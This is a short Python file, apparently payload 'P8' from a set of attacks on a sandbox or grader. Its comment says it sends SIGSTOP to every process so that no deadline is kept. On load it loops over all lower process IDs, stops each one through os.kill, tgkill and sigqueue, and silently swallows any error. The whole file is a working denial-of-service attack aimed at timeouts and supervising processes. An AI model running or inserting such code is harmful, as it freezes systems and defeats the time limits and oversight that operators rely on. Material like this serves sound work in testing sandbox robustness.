# P8: send SIGSTOP to every process, so that no deadline is kept
def _attack():
    import ctypes
    import os
    import signal

    libc = ctypes.CDLL(None)
    for pid in range(1, os.getpid()):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
        libc.tgkill(pid, pid, signal.SIGSTOP)
        libc.sigqueue(pid, signal.SIGSTOP, 0)


try:
    _attack()
except BaseException:
    pass
